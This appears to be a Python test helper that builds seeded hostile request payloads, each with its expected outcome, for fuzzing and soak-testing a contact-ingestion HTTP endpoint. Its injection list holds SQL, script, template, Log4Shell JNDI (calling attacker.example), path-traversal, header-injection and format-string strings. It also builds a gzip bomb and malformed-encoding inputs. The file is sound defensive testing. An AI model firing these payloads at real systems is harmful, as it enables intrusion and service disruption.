"""Seeded hostile payloads for `POST /contacts`, each with what the worker must make of it.

Shared by `python -m benchmarks.soak` and tests/integration/test_http_hostile.py. A payload knows
which contact_ids must land on contacts.raw and which lines must be dead-lettered (by the SHA-256 of
the line as sent, without surrounding whitespace: what a dead letter's `original_sha256` holds), or
which status refuses it as a whole. So a soak can account for every line.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from pipeline.ingest.intake import NotJson, strict_json

MIB = 1024 * 1024
OVER_HTTP_LIMIT = 16 * MIB + 1  # one byte over pipeline.ingest.http.MAX_HTTP_BATCH_BYTES
MAX_LINES = 10_000  # pipeline.ingest.http.MAX_HTTP_BATCH_LINES

TEXTS = (
    "Ik kan niet inloggen in de app",
    "I was charged twice for my subscription",
    "Mijn pakket is nog steeds niet bezorgd",
    "No internet since this morning",
    "De factuur klopt niet",
)
INJECTIONS = (
    "'; DROP TABLE contacts; --",
    "<script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: session=stolen",
    "%s%s%s%n",
    "nul \u0000 byte",
    "right-to-left \u202e override",
    "line\u2028separator and paragraph\u2029separator",
    "emoji 🙂 and combining e\u0301",
)


@dataclass(frozen=True)
class Payload:
    """One request: its body and headers, and what must come of it."""

    kind: str
    body: bytes
    headers: dict[str, str] = field(default_factory=dict)
    accepted: tuple[str, ...] = ()  # contact_ids that must be on contacts.raw
    rejected: tuple[str, ...] = ()  # SHA-256 (hex) of each line that must be dead-lettered
    refused_with: int | None = None  # a status that refuses the request as a whole (nothing stored)
    chunked: bool = False  # send without Content-Length

    @property
    def lines(self) -> int:
        return len(self.accepted) + len(self.rejected)

    @property
    def expected_status(self) -> int:
        return self.refused_with or (200 if self.accepted else 422)


def sha256(line: bytes) -> str:
    return hashlib.sha256(line.strip()).hexdigest()


class _Lines:
    """Makes single lines: valid contacts (with their id) and hostile ones."""

    def __init__(self, rng: random.Random, run: str, now: datetime) -> None:
        self.rng, self.run, self.now, self.serial = rng, run, now, 0

    def contact(self, **changes: object) -> dict:
        self.serial += 1
        base = {
            "contact_id": f"{self.run}-{self.serial}",
            "channel": self.rng.choice(["call", "chat", "email", "social", "messaging", "web_form"]),
            "occurred_at": (self.now - timedelta(minutes=self.rng.randrange(1, 600))).isoformat(),
            "language": self.rng.choice(["nl", "en"]),
            "customer_ref": f"cust-{self.rng.randrange(10**6)}",
            "transcript": [{"speaker": "customer", "text": self.rng.choice(TEXTS)}],
        }
        return {**base, **changes}

    def valid(self) -> tuple[bytes, str]:
        """A valid contact, sometimes carrying injection strings in its free text."""
        changes: dict[str, object] = {}
        if self.rng.random() < 0.5:
            injection = self.rng.choice(INJECTIONS)
            changes = self.rng.choice(
                [
                    {"transcript": [{"speaker": "customer", "text": injection}]},
                    {"agent_notes": injection, "product": injection[:128]},
                    {"agent_tags": [injection[:40], "tag"]},
                ]
            )
        contact = self.contact(**changes)
        return _dumps(contact), str(contact["contact_id"])

    def invalid(self) -> bytes:
        return self.rng.choice(self._invalid_makers())()

    def _invalid_makers(self) -> list[Callable[[], bytes]]:
        rng, contact = self.rng, self.contact
        far = (self.now + timedelta(days=30)).isoformat()
        return [
            lambda: _random_bytes(rng, rng.randrange(1, 2000)),
            lambda: b"[" * rng.randrange(17, 5000) + b"]" * 3,
            lambda: _nested(rng.randrange(17, 900)),
            lambda: _dumps(contact(transcript=[{"speaker": "customer", "text": json.loads(_nested(40))}])),
            lambda: _dumps(contact(transcript=[{"speaker": "customer", "text": "a" * 25_000}])),
            lambda: _dumps(contact(transcript=[{"speaker": "customer", "text": "a" * 20_000}] * 6)),
            lambda: _dumps(contact(transcript=[{"speaker": "customer", "text": "hi"}] * 2_001)),
            lambda: _dumps(contact(contact_id="x" * 10_000)),
            lambda: _dumps(contact(contact_id=rng.choice(INJECTIONS))),
            lambda: _dumps(contact()).replace(b'"customer",', b'"cust\xffomer",', 1),
            lambda: _dumps(contact()).replace(b"cust-", b"cust\xc0\xaf-", 1),  # overlong encoding
            lambda: _dumps(contact()).replace(b"cust-", b"cust\xed\xa0\x80-", 1),  # an encoded surrogate
            lambda: json.dumps(contact(product="\ud800")).encode(),  # a lone surrogate escaped: valid JSON, no text
            lambda: _dumps(contact()).replace(b'"cust-', b'"\x00cust-', 1),  # raw control character
            lambda: _dumps(contact()).replace(b'"transcript"', b'"handle_time_seconds": NaN, "transcript"', 1),
            lambda: _dumps(contact()).replace(b'"transcript"', b'"handle_time_seconds": Infinity, "transcript"', 1),
            lambda: _dumps(contact()).replace(b'"transcript"', b'"handle_time_seconds": 1e999, "transcript"', 1),
            lambda: _dumps(contact()).replace(b'"transcript"', b'"csat": ' + b"9" * 5000 + b', "transcript"', 1),
            lambda: _dumps(contact(occurred_at=rng.choice(_ABSURD_DATES))),
            lambda: _dumps(contact(occurred_at=far)),
            lambda: _dumps(contact(contact_id=12345)),
            lambda: _dumps(contact(transcript="just text")),
            lambda: _dumps(contact(transcript=[{"speaker": "alien", "text": "hi"}])),
            lambda: _dumps(contact(csat=4.5)),
            lambda: _dumps(contact(agent_tags="tag")),
            lambda: _dumps(contact(transferred={"a": 1})),
            lambda: _dumps(contact(customer_ref="jan@example.org")),
            lambda: _dumps(contact(unexpected="field")),
            lambda: rng.choice([b"[]", b'"a string"', b"42", b"null", b"true", b"{}", b"{", b"}"]),
            lambda: b"\xef\xbb\xbf" + _dumps(contact()),  # a byte-order mark
        ]


_ABSURD_DATES = (
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "2026-13-45T25:61:00Z",
    "2026-01-01T00:00:00",  # no time zone
    "now",
    "",
    1e20,
    -1,
    None,
)


def _dumps(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", errors="surrogatepass")


def _random_bytes(rng: random.Random, size: int) -> bytes:
    """Random bytes that form one line: no newlines, no whitespace at the ends, not blank."""
    data = bytes(rng.randrange(256) for _ in range(size)).replace(b"\n", b"?").replace(b"\r", b"?")
    return b"#" + data.strip() + b"#"


def _nested(depth: int) -> bytes:
    return b'{"a": ' * depth + b"1" + b"}" * depth


def hostile_payloads(count: int, seed: int, run: str, now: datetime) -> Iterator[Payload]:
    """`count` payloads from a seeded generator; contact ids start with `run` so a soak can find its own."""
    rng = random.Random(seed)
    lines = _Lines(rng, run, now)
    makers: list[tuple[float, Callable[[], Payload]]] = [
        (20, lambda: _one_valid(lines)),
        (5, lambda: _pretty(lines)),
        (35, lambda: _one_invalid(lines)),
        (25, lambda: _batch(rng, lines)),
        (3, lambda: _content_type(rng, lines)),
        (3, lambda: _empty(rng)),
        (2, lambda: _gzip(rng, lines)),
        (1, lambda: _huge_line(rng, lines)),
        (0.5, lambda: _pretty_array(lines)),
        (0.5, lambda: _too_many_lines(rng)),
        (0.05, lambda: _over_limit(rng)),
    ]
    weights = [weight for weight, _ in makers]
    for _ in range(count):
        [(_, make)] = rng.choices(makers, weights=weights)
        yield make()


def _one_valid(lines: _Lines) -> Payload:
    line, contact_id = lines.valid()
    return Payload("valid", line, {"Content-Type": "application/json"}, accepted=(contact_id,))


def _pretty(lines: _Lines) -> Payload:
    contact = lines.contact()
    body = json.dumps(contact, indent=2).encode()
    return Payload("pretty-printed", body, {"Content-Type": "application/json"}, accepted=(str(contact["contact_id"]),))


def _one_invalid(lines: _Lines) -> Payload:
    line = lines.invalid()
    return Payload("invalid", line, {"Content-Type": "application/x-ndjson"}, rejected=(sha256(line),))


def _batch(rng: random.Random, lines: _Lines) -> Payload:
    """NDJSON of valid and invalid lines, blank lines, CRLF or LF, and a duplicated key."""
    parts: list[bytes] = []
    accepted: list[str] = []
    rejected: list[str] = []
    for _ in range(rng.randrange(2, 30)):
        roll = rng.random()
        if roll < 0.45:
            line, contact_id = lines.valid()
            accepted.append(contact_id)
        elif roll < 0.5:
            contact = lines.contact()
            line = _dumps(contact)[:-1] + b', "contact_id": "' + f"{contact['contact_id']}-dup".encode() + b'"}'
            accepted.append(f"{contact['contact_id']}-dup")  # JSON's last duplicate key wins
        elif roll < 0.95:
            line = lines.invalid()
            rejected.append(sha256(line))
        else:
            line = rng.choice([b"", b"   ", b"\t"])  # blank: skipped, not counted
        parts.append(line)
    newline = rng.choice([b"\n", b"\r\n"])
    body, headers = newline.join(parts) + newline, {"Content-Type": "application/x-ndjson"}
    if _one_document(body):  # e.g. lines `{` and `}`: one JSON document over several lines is one record
        return Payload("batch", body, headers, rejected=(sha256(body),))
    return Payload("batch", body, headers, tuple(accepted), tuple(rejected))


def _one_document(body: bytes) -> bool:
    whole = body.strip()
    if b"\n" not in whole:
        return False
    try:
        strict_json(whole.decode("utf-8"))
    except (UnicodeDecodeError, NotJson):
        return False
    return True


def _content_type(rng: random.Random, lines: _Lines) -> Payload:
    """The content type is not checked: a valid contact is accepted whatever it claims to be."""
    line, contact_id = lines.valid()
    content_type = rng.choice(["text/html", "application/xml", "multipart/form-data; boundary=x", "image/png", ""])
    headers = {"Content-Type": content_type} if content_type else {}
    return Payload("content-type", line, headers, accepted=(contact_id,), chunked=rng.random() < 0.5)


def _empty(rng: random.Random) -> Payload:
    return Payload("empty", rng.choice([b"", b"\n\n", b"  \r\n \n"]), refused_with=422)


def _gzip(rng: random.Random, lines: _Lines) -> Payload:
    headers = {"Content-Type": "application/x-ndjson", "Content-Encoding": "gzip"}
    roll = rng.random()
    if roll < 0.4:
        line, contact_id = lines.valid()
        return Payload("gzip", gzip.compress(line), headers, accepted=(contact_id,))
    if roll < 0.8:
        return Payload("gzip-broken", b"not gzip at all", headers, refused_with=400)
    return Payload("gzip-bomb", gzip.compress(b"\0" * (OVER_HTTP_LIMIT + MIB)), headers, refused_with=413)


def _huge_line(rng: random.Random, lines: _Lines) -> Payload:
    """A line of 1–3 MB (over the broker's default 1 MB message limit): dead-lettered by reference."""
    line = _dumps(lines.contact(transcript=[{"speaker": "customer", "text": "a" * rng.randrange(MIB, 3 * MIB)}]))
    return Payload("huge-line", line, {"Content-Type": "application/x-ndjson"}, rejected=(sha256(line),))


def _pretty_array(lines: _Lines) -> Payload:
    body = json.dumps([lines.contact(), lines.contact()], indent=2).encode()
    return Payload("json-array", body, {"Content-Type": "application/json"}, rejected=(sha256(body),))


def _too_many_lines(rng: random.Random) -> Payload:
    body = rng.choice([b"{}", b"x", b""]) + b"\n"
    return Payload("too-many-lines", body * (MAX_LINES + 1), refused_with=413)


def _over_limit(rng: random.Random) -> Payload:
    chunked = rng.random() < 0.5
    return Payload("over-16MiB", b"x" * OVER_HTTP_LIMIT, refused_with=413, chunked=chunked)
